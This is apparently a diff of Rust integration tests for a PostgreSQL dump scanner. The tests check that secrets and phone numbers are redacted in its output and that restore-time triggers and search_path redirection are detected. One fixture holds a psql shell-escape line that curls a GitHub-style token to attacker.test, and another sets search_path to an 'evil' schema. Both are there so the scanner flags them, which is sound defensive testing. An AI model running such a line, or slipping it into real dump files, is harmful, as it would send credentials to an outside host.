@@ -198,6 +198,16 @@ fn verify_never_quotes_a_secret_whole() {
             assert!(all.contains("ghp_****"), "{all}");
         }
     }
+    // A composite key's values are judged column by column: a phone stays redacted.
+    let composite = write(
+        dir.path(),
+        "composite.sql",
+        b"CREATE TABLE public.p (phone text, org_id integer, CONSTRAINT p_key UNIQUE (phone, org_id));\n\
+          COPY public.p (phone, org_id) FROM stdin;\n+14155550123\t7\n+14155550123\t7\n\\.\n",
+    );
+    let out = run(&["verify", "--format", "json", s(&composite)]);
+    let all = String::from_utf8_lossy(&out.stdout);
+    assert!(all.contains("duplicate-key") && !all.contains("+14155550123"), "{all}");
     // A value nobody would flag is still quoted as the server quotes it.
     let plain = write(
         dir.path(),
@@ -567,4 +577,73 @@ fn json_nested_past_the_servers_stack_is_predicted_to_fail() {
     );
     let fine = write(dir.path(), "fine.sql", dump(10_000).as_bytes());
     assert_eq!(run(&["verify", s(&fine)]).status.code(), Some(0));
+}
+
+#[test]
+fn scan_messages_and_warnings_never_quote_a_secret_whole() {
+    let dir = tempfile::tempdir().unwrap();
+    let token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+    let dump = format!(
+        "CREATE TABLE public.s (t text);\n\
+         \\! curl -H 'Authorization: token {token}' https://attacker.test/\n\
+         UPDATE public.s SET t = '{token}';\n\
+         SELEC '{token}' broken;\n"
+    );
+    let p = write(dir.path(), "s.sql", dump.as_bytes());
+    for format in ["text", "json", "sarif"] {
+        let out = run(&["scan", "--format", format, s(&p)]);
+        let all = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(
+            all.contains("meta-shell") && all.contains("unexpected-dml"),
+            "{format}: {all}"
+        );
+        assert!(!all.contains(token), "{format}: {all}");
+    }
+    for args in [vec!["inspect", s(&p)], vec!["inspect", "--format", "json", s(&p)]] {
+        let out = run(&args);
+        let all = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(!all.contains(token), "{args:?}: {all}");
+    }
+    // --show-secrets shows them, as asked.
+    let out = run(&["scan", "--show-secrets", "--format", "json", s(&p)]);
+    assert!(String::from_utf8_lossy(&out.stdout).contains(token));
+}
+
+#[test]
+fn a_search_path_does_not_hide_a_trigger_that_fires_during_the_restore() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = write(
+        dir.path(),
+        "trg.sql",
+        b"SET search_path = public, pg_catalog;\nCREATE TABLE users (id int);\n\
+          CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN RETURN NEW; END$$;\n\
+          CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE PROCEDURE f();\n\
+          COPY users (id) FROM stdin;\n1\n\\.\n",
+    );
+    let r: Value = serde_json::from_slice(&run(&["scan", "--format", "json", s(&p)]).stdout).unwrap();
+    assert!(
+        r["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["rule"] == "trigger-before-data"),
+        "{r}"
+    );
+    // A set_config of another path moves unqualified names there, as the server would.
+    let q = write(
+        dir.path(),
+        "sp.sql",
+        b"SET search_path = public, pg_catalog;\nSELECT pg_catalog.set_config('search_path', 'evil', false);\n\
+          CREATE TABLE users (id int);\nCOPY users (id) FROM stdin;\n1\n\\.\n",
+    );
+    let inv: Value = serde_json::from_slice(&run(&["inspect", "--format", "json", s(&q)]).stdout).unwrap();
+    assert_eq!(inv["tables"][0]["schema"], "evil", "{inv}");
 }
